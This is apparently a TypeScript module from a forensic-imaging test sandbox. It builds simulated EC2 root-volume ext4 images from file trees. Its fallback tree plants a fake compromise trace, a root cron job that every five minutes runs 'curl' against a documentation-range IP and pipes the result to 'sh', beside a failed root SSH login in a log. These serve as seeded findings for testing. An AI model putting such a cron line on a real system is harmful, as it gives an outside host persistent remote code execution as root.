/**
 * Which content backs each seeded volume: the root volume of every seeded instance is a real ext4 image
 * built from a tree (`sandbox/disks`), as large as the volume, so the raw image the imager writes to the
 * simulated S3 is byte-identical to the image file and their SHA-256s can be compared. Data volumes were
 * never written (all zeros: the EBS direct APIs list no block of them).
 *
 * The trees with planted traces per sample finding come from `sandbox/disks/trees.ts` (the examination
 * issue) when it exists; until then every root volume holds `FALLBACK_TREE`.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { buildDiskImage, type DiskTree } from '../disks/build.js';
import { imageContent, type VolumeContent } from './volume-content.js';

/** A small Linux-looking root filesystem with one planted trace (a cron job fetching a script). */
export const FALLBACK_TREE: DiskTree = {
  name: 'root-fallback',
  files: {
    'etc/hostname': 'web-1\n',
    'etc/os-release': 'NAME="Amazon Linux"\nVERSION="2023"\nID="amzn"\n',
    'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n',
    'etc/cron.d/update': {
      content: '*/5 * * * * root curl -s http://203.0.113.7/u.sh | sh\n',
      mtime: '2026-01-02T03:04:05Z',
    },
    'var/log/secure':
      'Jan  2 03:00:01 web-1 sshd[811]: Failed password for root from 203.0.113.7 port 51234 ssh2\n',
    'home/ec2-user/.bash_history': 'ls\nsudo su\n',
  },
};

/** A variable, so the type checker does not require the module before it exists. */
const TREES_MODULE = '../disks/trees.js';
type TreesModule = { treeForInstance?: (instanceId: string) => DiskTree | undefined };
let trees: Promise<TreesModule> | undefined;

/** The examination's trees, when that module exists (imported, not copied). */
function examinationTrees(): Promise<TreesModule> {
  const path = join(import.meta.dirname, '..', 'disks', 'trees.ts');
  trees ??= existsSync(path)
    ? (import(/* @vite-ignore */ TREES_MODULE) as Promise<TreesModule>).catch(() => ({}))
    : Promise.resolve({});
  return trees;
}

/** The tree a seeded instance's root volume is built from, at `sizeGiB` (what tests compare against). */
export async function seededRootTree(instanceId: string, sizeGiB: number): Promise<DiskTree> {
  const tree = (await examinationTrees()).treeForInstance?.(instanceId) ?? FALLBACK_TREE;
  return { ...tree, sizeMiB: sizeGiB * 1024 };
}

/** The content of a seeded volume: the root's tree at the volume's size, or nothing (never written). */
export function seededVolumeContent(
  instanceId: string,
  deviceIndex: number,
  sizeGiB: number,
): VolumeContent | undefined {
  if (deviceIndex !== 0) return undefined;
  return imageContent(`ext4 root filesystem of ${instanceId}`, async () =>
    buildDiskImage(await seededRootTree(instanceId, sizeGiB)),
  );
}
